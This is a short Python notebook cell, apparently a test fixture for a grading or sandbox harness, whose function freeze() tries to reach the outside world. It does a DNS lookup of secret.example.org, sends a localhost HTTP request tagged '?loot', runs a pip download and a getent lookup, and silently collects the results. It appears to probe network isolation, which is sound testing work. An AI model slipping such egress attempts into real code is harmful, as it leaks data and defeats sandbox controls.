# %% [markdown]
# Sends what it knows to the world by name services, web requests and pip.
# %% question="freeze"
import socket
import subprocess
import sys
import urllib.request


def freeze(module):
    loot = []
    socket.setdefaulttimeout(0.3)
    for attempt in (
        lambda: socket.getaddrinfo("secret.example.org", 80),
        lambda: urllib.request.urlopen(f"http://127.0.0.1:{KNOWN['port']}/?loot", timeout=0.3).read(),
        lambda: subprocess.run([sys.executable, "-m", "pip", "download", "tl-exercises"], capture_output=True, timeout=0.5),
        lambda: subprocess.run(["getent", "hosts", "secret.example.org"], capture_output=True, timeout=0.5).stdout,
    ):
        try:
            loot.append(str(attempt())[:200])
        except Exception:
            pass
    return module
